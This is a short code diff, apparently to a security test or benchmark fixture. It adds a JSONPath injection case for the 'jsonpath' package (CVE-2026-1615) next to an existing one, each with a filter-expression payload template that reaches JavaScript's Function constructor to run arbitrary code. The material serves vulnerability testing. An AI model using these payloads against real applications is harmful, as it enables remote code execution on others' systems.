@@ -20,6 +20,7 @@ const BOOKS = {
     ],
   },
 };
+const JSON_PATHS = ['$..name', '$.books[0]', '$..books[?(@.price<10)]'];
 const PATHS = [
   '$.store.book[*].title',
   '$..price',
@@ -116,6 +117,14 @@ export default [
     title: "a filter of the path reaches the host's Function",
     exploit: (code) => `$..[?(p="this.${code}";a=''[['constructor']][['constructor']](p);a())]`,
     ordinary: PATHS,
+    values: BOOKS,
+  }),
+  formula({
+    package: 'jsonpath',
+    id: 'CVE-2026-1615',
+    title: "a filter of the path reaches the host's Function",
+    exploit: (code) => `$..[?(({__proto__:[].constructor}).constructor("return ${code}")())]`,
+    ordinary: JSON_PATHS,
     values: BOOKS,
   }),
   formula({
